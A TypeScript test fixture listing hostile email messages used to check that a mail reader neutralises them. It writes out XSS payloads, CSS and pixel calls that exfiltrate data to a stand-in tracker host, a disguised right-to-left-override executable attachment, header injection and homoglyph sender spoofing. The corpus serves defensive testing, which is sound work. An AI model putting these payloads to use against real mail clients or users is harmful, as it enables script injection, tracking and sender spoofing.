// Hostile messages: the plaintext a malicious sender puts inside valid encryption and a valid
// signature. Every script payload sets `__pwned` on the reader's page (or its parent) if it ever
// runs; every network payload points at tracker.invalid, which no test ever expects to reach.

export interface HostileMessage {
	/** Short name, also used as the start of the subject so the test can find the message. */
	name: string;
	/** The MIME text to encrypt. `{from}` and `{to}` are replaced by the real addresses. */
	mime: string;
	/** Sentences the reader must see (warnings, revealed characters). */
	mustShow: string[];
}

const TRIP = 'window.top.__pwned=1';

const header = (subject: string, from = '{from}', type = 'text/plain; charset=utf-8') =>
	[
		`Content-Type: ${type}`,
		'Content-Transfer-Encoding: 8bit',
		'Message-ID: <hostile@localhost>',
		'Date: Sun, 22 Nov 2026 10:42:00 +0000',
		`From: ${from}`,
		'To: {to}',
		`Subject: ${subject}`
	].join('\r\n') + '\r\n\r\n';

export const CORPUS: HostileMessage[] = [
	{
		name: 'script-in-text',
		mime:
			header(`script-in-text <script>${TRIP}</script>`) +
			[
				`<script>${TRIP}</script>`,
				`<img src=x onerror="${TRIP}">`,
				`<svg onload="${TRIP}"></svg>`,
				`javascript:${TRIP}`,
				`data:text/html,<script>${TRIP}</script>`,
				'A real link: https://example.org/report?id=1.',
				'{{constructor.constructor("window.top.__pwned=1")()}}'
			].join('\r\n'),
		mustShow: [`<script>${TRIP}</script>`]
	},
	{
		name: 'html-mail',
		mime:
			header('html-mail', '{from}', 'text/html; charset=utf-8') +
			[
				'<html><head>',
				'<meta http-equiv="refresh" content="0;url=http://tracker.invalid/refresh">',
				'<base href="http://tracker.invalid/">',
				'<link rel="stylesheet" href="http://tracker.invalid/style.css">',
				'<style>@import url(http://tracker.invalid/import.css); input[value^="a"]{background:url(http://tracker.invalid/exfil-a)}</style>',
				'</head><body>',
				'<h1>Quarterly report</h1>',
				`<script>${TRIP}</script>`,
				`<img src="x" onerror="${TRIP}">`,
				'<img src="http://tracker.invalid/pixel.gif" width="1" height="1">',
				'<div style="background:url(http://tracker.invalid/exfil-b)">styled</div>',
				`<a href="javascript:${TRIP}">javascript link</a>`,
				`<a href="data:text/html,<script>${TRIP}</script>">data link</a>`,
				'<a href="https://example.org/safe">a safe link</a>',
				`<svg><script>${TRIP}</script><animate onbegin="${TRIP}" attributeName="x"/></svg>`,
				`<math><mtext><table><mglyph><style><img src=x onerror="${TRIP}"></style></mglyph></table></mtext></math>`,
				'<form action="http://tracker.invalid/form"><input name="q" value="secret"><button>Send</button></form>',
				'<iframe src="http://tracker.invalid/frame"></iframe>',
				'<object data="http://tracker.invalid/object"></object>',
				`<details open ontoggle="${TRIP}">details</details>`,
				'</body></html>'
			].join('\r\n'),
		mustShow: ['2 remote images were blocked', 'https://example.org/safe']
	},
	{
		// URLs outside <a href>, and an unclosed <noscript> that once hid the rest of the letter.
		name: 'html-tricks',
		mime:
			header('html-tricks', '{from}', 'text/html; charset=utf-8') +
			[
				'<p>Before the tricks.</p>',
				'<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="map">',
				'<map name="m"><area shape="rect" coords="0,0,1,1" href="https://example.org/area"></map>',
				'<blockquote cite="https://example.org/cite">Quoted.</blockquote>',
				'<noscript><p>Shown after the noscript trick.</p>'
			].join('\r\n'),
		mustShow: ['https://example.org/area', 'https://example.org/cite']
	},
	{
		name: 'attachments',
		mime:
			header('attachments', '{from}', 'multipart/mixed; boundary="b1"') +
			[
				'--b1',
				'Content-Type: text/plain; charset=utf-8',
				'',
				'Please see the invoice.',
				'--b1',
				'Content-Type: application/pdf',
				'Content-Disposition: attachment; filename="invoice\u202Efdp.exe"',
				'Content-Transfer-Encoding: base64',
				'',
				'TVqQAAMAAAAEAAAA',
				'--b1',
				'Content-Type: image/svg+xml',
				'Content-Disposition: attachment; filename="cat.svg"',
				'',
				`<svg xmlns="http://www.w3.org/2000/svg" onload="${TRIP}"><image href="http://tracker.invalid/svg"/></svg>`,
				'--b1',
				'Content-Type: text/html',
				'Content-Disposition: attachment; filename="page.html"',
				'',
				`<script>${TRIP}</script>`,
				'--b1--'
			].join('\r\n'),
		mustShow: [
			'invoice[U+202E]fdp.exe',
			'The file name “invoice[U+202E]fdp.exe” contains characters that reverse the order'
		]
	},
	{
		name: 'header-injection',
		mime:
			header(
				'header-injection =?UTF-8?Q?Hi=0D=0AFrom:_ceo@localhost=0D=0ABcc:_x@localhost?=',
				'"ceo@localhost" <{from}>'
			) + 'The name claims to be another address.',
		mustShow: ['The sender’s name contains an email address']
	},
	{
		name: 'rtl-name',
		mime:
			header(
				'rtl-name',
				`=?UTF-8?B?${Buffer.from('Alice \u202Eecilots').toString('base64')}?= <{from}>`
			) + 'The name is written backwards by a control character.',
		mustShow: ['Alice [U+202E]ecilots', 'The sender’s name contains characters that reverse']
	},
	{
		name: 'homoglyph',
		mime:
			header('homoglyph', 'Bob <b\u043Eb@localhost>').replace(
				'To: {to}',
				'To: {to}, \u0430lice@localhost'
			) + 'Cyrillic letters that look like Latin ones.',
		mustShow: [
			'The sender address inside the letter is an address with letters that only look like ordinary ones',
			'but the letter itself says it is from b\u043Eb@localhost'
		]
	}
];
